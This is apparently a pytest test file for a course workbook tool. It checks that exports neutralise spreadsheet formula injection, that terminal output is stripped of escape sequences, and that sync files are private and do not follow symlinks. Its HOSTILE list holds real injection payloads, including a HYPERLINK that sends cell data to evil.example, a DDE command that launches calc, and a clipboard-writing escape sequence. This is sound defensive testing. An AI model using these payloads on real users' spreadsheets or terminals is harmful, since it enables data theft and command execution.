"""What reaches a spreadsheet or a terminal from learner text is inert, and what sync and
exports leave on the laptop is private (0700/0600 whatever the umask, no links followed)."""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from workbook.cli import main
from workbook.course.content import load_course
from workbook.learner.session import Session
from workbook.store import ParquetStore
from workbook.store.sharing import SHARE_FIELD

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\x1b]52;c;ZXZpbA==\x07copied to your clipboard",
    "\x1b[2J\x1b[Hscreen wiped",
]
ROWS = [i.id for i in load_course().exercise("m01.journey-map").rows]


@pytest.fixture
def hostile_store(tmp_path: Path) -> Path:
    """Six learners who shared hostile text and scored patience 5."""
    store, course = ParquetStore(tmp_path / "cohort"), load_course()
    for n in range(6):
        s = Session(course, store, "cohort-a", f"l{n}", debounce=60)
        s.set("m03.skills", "patience", 5, snapshot="first-day")
        for row, value in zip(ROWS, HOSTILE[n::6], strict=False):
            s.set("m01.journey-map", f"{row}/going-well", value)
        s.set("m01.journey-map", SHARE_FIELD, True)
        s.flush()
    return store.root


@pytest.fixture
def umask_000() -> Iterator[None]:
    old = os.umask(0)
    try:
        yield
    finally:
        os.umask(old)


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_exported_learner_text_is_no_formula_and_numbers_stay_numbers(
    hostile_store: Path, tmp_path: Path, suffix: str
) -> None:
    out = tmp_path / f"cohort{suffix}"
    assert main(["cohort", "export", "cohort-a", str(out), "--folder", str(hostile_store)]) == 0
    if suffix == ".csv":
        with open(out, newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
    else:
        cells = [str(c) for c in pd.read_parquet(out).to_numpy().ravel()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert {f"'{h}" for h in HOSTILE[:6]} <= set(cells)
    assert "5" in cells  # a score is still a number


def test_printed_reflections_carry_no_control_characters(
    hostile_store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["cohort", "reflections", "cohort-a", "--folder", str(hostile_store)]) == 0
    out = capsys.readouterr().out
    assert "screen wiped" in out and "copied to your clipboard" in out
    assert not [c for c in out if c not in "\n" and not c.isprintable()]


def test_sync_state_is_private_whatever_the_umask_and_follows_no_link(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, umask_000: None
) -> None:
    home, folder = tmp_path / "home", tmp_path / "shared" / "cohort-x"
    folder.mkdir(parents=True)
    monkeypatch.setenv("WORKBOOK_HOME", str(home))
    monkeypatch.setenv("WORKBOOK_LEARNER", "me")
    assert main(["sync", "--folder", str(folder)]) == 0  # before any save
    made = [home / "sync", *(home / "sync").rglob("*")]
    assert made and all(
        stat.S_IMODE(p.stat().st_mode) == (0o700 if p.is_dir() else 0o600) for p in made
    ), {str(p): oct(p.stat().st_mode) for p in made}

    (status,) = (home / "sync").rglob("status.json")
    victim = tmp_path / "victim.txt"
    victim.write_text("someone's file")
    (status.parent / ".status.tmp").symlink_to(victim)  # planted
    assert main(["sync", "--folder", str(folder)]) == 0
    assert victim.read_text() == "someone's file"
